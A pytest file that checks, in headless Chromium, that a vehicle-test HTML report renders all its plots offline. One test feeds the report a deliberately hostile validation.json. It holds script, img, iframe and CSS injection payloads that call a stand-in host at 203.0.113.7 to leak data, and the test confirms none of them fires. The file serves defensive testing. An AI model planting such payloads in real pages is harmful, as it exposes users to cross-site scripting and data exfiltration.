"""The report in real headless Chromium: renders every plot, no console error, no network.

One browser session loads one report with every section, including the control-strategy
section of a real ``analyze`` result and the validation section of a real ``validate_test``
payload, then one report of a real ``vehval batch`` run, which loads the batch's shared
plotly.js through a relative ``file://`` path instead of embedding it. Needs Debian's /usr/bin/chromium (``make browser`` installs it) and the python
playwright package; skipped cleanly otherwise. Playwright's own browser download is never used.
"""

from __future__ import annotations

from pathlib import Path

import numpy as np
import pytest

from helpers.browser import ARGS, CHROMIUM, LOCAL
from vehval.report import write_report

from .helpers import make_control, make_qa, make_test, make_validation

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("report_browser")]


BATCH_TEMPLATE = """template_version: 1
files:
  - match: "*.txt"
    source: dyno
    format: d3
    time: {column: Time, unit: s}
    channels:
      Dyno_Speed: {name: veh_spd_test, unit: mph}
      Engine_Speed: {name: eng_spd_out_test, unit: rpm}
      Bty_Curr: {name: ess_curr_test, unit: A}
      Fuel_Flow: {name: fuel_rate_test, unit: g/s}
"""


def _batch_report(root: Path) -> Path:
    """Run a one-test ``vehval batch`` (QA + report) and return the test's report.html."""
    from vehval.batch import run_batch

    t = np.arange(120.0)
    v = 30.0 * np.sin(np.pi * t / t[-1]) ** 2
    rows = ["Time[s]\tDyno_Speed[mph]\tEngine_Speed[rpm]\tBty_Curr[A]\tFuel_Flow[g/s]"]
    rows += [f"{a:g}\t{b:.6g}\t{1000 + 20 * b:.6g}\t{5 * np.sin(a / 9):.6g}\t{0.05 * b + 0.1:.6g}"
             for a, b in zip(t, v)]
    (root / "in" / "b1").mkdir(parents=True)
    (root / "in" / "b1" / "run.txt").write_text("\r\n".join(rows) + "\r\n", encoding="utf-8")
    (root / "tmpl.yaml").write_text(BATCH_TEMPLATE, encoding="utf-8")
    run_batch(root / "in", root / "tmpl.yaml", root / "out", steps=["qa"], workers=0,
              progress=False)
    return root / "out" / "tests" / "b1" / "report.html"


def _figure_state(page) -> list[dict]:
    return page.evaluate("""() => Array.from(document.querySelectorAll('.vv-fig')).map(el => ({
        id: el.id, rendered: el.dataset.rendered === '1', svg: el.querySelectorAll('.main-svg').length,
        traces: (el.data || []).length}))""")


@pytest.fixture(scope="module")
def page_report(tmp_path_factory):
    if not Path(CHROMIUM).exists():
        pytest.skip("chromium not installed (run `make browser`)")
    sync_api = pytest.importorskip("playwright.sync_api")
    path = tmp_path_factory.mktemp("browser") / "report.html"
    test = make_test()
    test.meta.vehicle = "prius_2004"  # component maps too
    write_report(path, test=test, qa=make_qa(), control=make_control(), validation=make_validation())
    batch_report = _batch_report(path.parent)
    errors, remote = [], []
    with sync_api.sync_playwright() as p:
        try:
            browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        except Exception as exc:  # noqa: BLE001 - a broken browser install is a skip, not a failure
            pytest.skip(f"chromium does not start: {exc}")
        page = browser.new_page(viewport={"width": 1300, "height": 900})
        page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
        page.on("pageerror", lambda e: errors.append(str(e)))

        def route(r):
            url = r.request.url
            if url.startswith(LOCAL):
                r.continue_()
            else:
                remote.append(url)
                r.abort()
        page.route("**/*", route)
        page.goto(path.as_uri())
        page.evaluate("window.vehvalReport.renderAll()")
        state = page.evaluate("""() => Array.from(document.querySelectorAll('.vv-fig')).map(el => ({
            id: el.id, rendered: el.dataset.rendered === '1', section: el.closest('section').id,
            svg: el.querySelectorAll('.main-svg').length,
            height: el.getBoundingClientRect().height,
            traces: (el.data || []).length,
            points: (el._fullData || []).reduce((n, t) => n + (t._length || (t.z ? t.z.length : 0)
                                                 || (t.link && t.link.value ? t.link.value.length : 0)), 0),
            drawn: el.querySelectorAll('.scatterlayer .trace, .barlayer .trace, .contourlayer .trace, '
                                       + '.sankey, .heatmaplayer .trace, .gl-canvas').length,
            cartesian: el.querySelectorAll('.xaxislayer-above').length > 0,
            xtitle: Array.from(el.querySelectorAll('.infolayer text')).filter(
                t => /^g-x\\d*title$/.test(t.parentNode.getAttribute('class') || '')
                     || /^x\\d*title$/.test(t.getAttribute('class') || '')).map(t => t.textContent).join('|')}))""")
        tables = page.evaluate("Array.from(document.querySelectorAll('table.data')).map(t => t.dataset.table)")
        sections = page.evaluate("Array.from(document.querySelectorAll('section')).map(s => s.id)")
        # zooming one linked time plot moves the others
        ids = [s["id"] for s in state]
        linked = page.evaluate("Array.from(document.querySelectorAll('.vv-fig[data-linked]')).map(e => e.id)")
        page.evaluate(f"Plotly.relayout(document.getElementById('{linked[0]}'), {{'xaxis.range': [20, 40]}})")
        page.wait_for_timeout(300)
        other = page.evaluate(f"document.getElementById('{linked[-1]}').layout.xaxis.range")
        # a batch report, same browser: plotly.js comes from ../../assets/ beside it
        n_err = len(errors)
        page.goto(batch_report.as_uri())
        page.evaluate("window.vehvalReport.renderAll()")
        batch = {"state": _figure_state(page), "errors": errors[n_err:],
                 "src": page.evaluate("document.getElementById('plotly-js').src"),
                 "plotly": page.evaluate("typeof Plotly === 'object' && typeof Plotly.newPlot")}
        browser.close()
    return {"errors": errors, "remote": remote, "state": state, "tables": tables, "ids": ids, "other": other,
            "sections": sections, "batch": batch, "batch_report": batch_report}


@pytest.mark.slow
def test_report_in_chromium(page_report):
    """One test on purpose: pytest-xdist runs a test on one worker, so the browser starts once
    (``xdist_group`` does not keep tests together with pytest 9)."""
    check_no_console_errors(page_report)
    check_no_network_request(page_report)
    check_every_plot_rendered_with_data(page_report)
    check_every_section_with_its_plots(page_report)
    check_every_table_present(page_report)
    check_time_axes_linked(page_report)
    check_batch_report_with_shared_plotly(page_report)


def check_no_console_errors(page_report):
    assert page_report["errors"] == []


def check_no_network_request(page_report):
    assert page_report["remote"] == []


def check_every_plot_rendered_with_data(page_report):
    assert len(page_report["state"]) >= 20
    for s in page_report["state"]:
        # rendered, visible (a plot without a height collapses to 0 px) and with data drawn
        assert s["rendered"] and s["svg"] >= 1 and s["traces"] >= 1 and s["drawn"] >= 1, s
        assert s["height"] > 100 and s["points"] >= 1, s
        assert s["xtitle"] or not s["cartesian"], s          # axis titles drawn (plotly.js 3)


def check_every_section_with_its_plots(page_report):
    figs_by_section: dict[str, int] = {}
    for s in page_report["state"]:
        figs_by_section[s["section"]] = figs_by_section.get(s["section"], 0) + 1
    for sec in ("summary", "import", "alignment", "qa1", "qa2", "calc", "qa3", "selection", "signals",
                "engineering", "control", "validation"):
        assert sec in page_report["sections"], sec
    for sec, n in (("alignment", 1), ("qa1", 2), ("qa2", 1), ("qa3", 1), ("signals", 3),
                   ("engineering", 7), ("control", 4), ("validation", 3)):
        assert figs_by_section.get(sec, 0) >= n, (sec, figs_by_section)


def check_every_table_present(page_report):
    for key in ("findings", "table2", "table3", "alignment", "calculations", "mapping", "deleted",
                "energies", "control-operating-modes", "control-findings"):
        assert key in page_report["tables"], key
    assert any(k.startswith("validation-") for k in page_report["tables"])


def check_time_axes_linked(page_report):
    lo, hi = page_report["other"]
    assert lo == pytest.approx(20) and hi == pytest.approx(40)


def check_batch_report_with_shared_plotly(page_report):
    b, report = page_report["batch"], page_report["batch_report"]
    asset = (report.parent / ".." / ".." / "assets").resolve()
    assert b["plotly"] == "function" and b["errors"] == []        # loaded from the local file
    assert b["src"].startswith("file://") and b["src"].endswith(".min.js")
    assert Path(b["src"][len("file://"):]).parent == asset
    assert len(b["state"]) >= 3, b["state"]
    for s in b["state"]:
        assert s["rendered"] and s["svg"] >= 1 and s["traces"] >= 1, s


def _hostile_validation() -> dict:
    """A validation.json written by a hostile tool: every way a plotly figure or a table could
    make the page reach the network or link out of it."""
    url = "http://203.0.113.7/leak"
    return {
        "tables": [{"title": f"<img src='{url}.png'> results", "columns": ["a", "<b>b</b>"],
                    "rows": [[f"<script>fetch('{url}')</script>", f"<a href='{url}'>x</a>"]]}],
        "figures": [
            {"title": f"<a href='{url}'>click</a>", "figure": {
                "data": [{"type": "scatter", "x": [0, 1, 2], "y": [1, 3, 2],
                          "name": f"<a href='{url}'>trace</a>",
                          "text": [f"<img src='{url}.gif'>", "b", "c"]},
                         {"type": "scattergeo", "lon": [0], "lat": [0]},
                         {"type": "scattermapbox", "lon": [0], "lat": [0]},
                         {"type": "image", "source": f"{url}.png"}],
                "layout": {"title": {"text": f"<a href='{url}'>t</a>"},
                           "images": [{"source": f"{url}.jpg", "xref": "paper", "yref": "paper",
                                       "x": 0, "y": 1, "sizex": 1, "sizey": 1}],
                           "mapbox": {"style": f"{url}/style.json"},
                           "geo": {"projection": {"type": "mercator"}},
                           "annotations": [{"text": f"<span style='background:url({url})'>n</span>",
                                            "x": 1, "y": 1}],
                           "xaxis": {"title": {"text": "time [s]"}}}}},
        ],
        "notes": [f"<iframe src='{url}'></iframe>"],
    }


def test_hostile_validation_json_makes_no_request(tmp_path):
    """A report built from a hostile validation.json: Chromium records zero network requests,
    and the page holds no link or image pointing out of it."""
    if not Path(CHROMIUM).exists():
        pytest.skip("chromium not installed (run `make browser`)")
    sync_api = pytest.importorskip("playwright.sync_api")
    path = tmp_path / "report.html"
    write_report(path, test=make_test(), qa=make_qa(), validation=_hostile_validation())
    html = path.read_text(encoding="utf-8")
    assert "Content-Security-Policy" in html and "203.0.113.7" in html  # shown as text, inert
    requests, errors = [], []
    with sync_api.sync_playwright() as p:
        try:
            browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        except Exception as exc:  # noqa: BLE001 - a broken browser install is a skip, not a failure
            pytest.skip(f"chromium does not start: {exc}")
        page = browser.new_page()
        page.on("request", lambda r: None if r.url.startswith(LOCAL) else requests.append(r.url))
        page.on("pageerror", lambda e: errors.append(str(e)))
        page.route("**/*", lambda r: r.continue_() if r.request.url.startswith(LOCAL) else r.abort())
        page.goto(path.as_uri())
        page.evaluate("window.vehvalReport.renderAll()")
        page.wait_for_timeout(500)
        out_links = page.evaluate("""() => Array.from(document.querySelectorAll(
            'a[href], img[src], image, iframe, link[href], script[src]')).map(
            e => e.getAttribute('href') || e.getAttribute('src') || e.getAttribute('xlink:href')
                 || '').filter(u => /^(https?:|\\/\\/)/.test(u))""")
        rendered = page.evaluate("document.querySelectorAll('.vv-fig .main-svg').length")
        browser.close()
    assert requests == []
    assert out_links == []
    assert rendered > 0 and not errors
